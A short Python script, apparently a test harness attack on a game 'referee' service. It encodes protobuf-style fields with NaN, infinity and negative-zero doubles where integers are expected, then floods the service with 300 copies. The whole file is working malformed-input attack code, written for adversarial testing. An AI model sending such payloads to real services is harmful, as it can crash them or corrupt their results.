"""Sends numbers that are none (NaN, infinity) where the referee expects whole ones."""

import struct

from attacker import send_bytes

NAMES = (1, 2)  # of the fields match and decision
EIGHT_BYTES = 1
MOVES = b"\x12"
numbers = (float("nan"), float("inf"), float("-inf"), -0.0)
moves = [b"".join(struct.pack("<Bd", name << 3 | EIGHT_BYTES, number) for name in NAMES) for number in numbers]
flood = b"".join(MOVES + bytes([len(move)]) + move for move in moves)
send_bytes(*[flood] * 300)
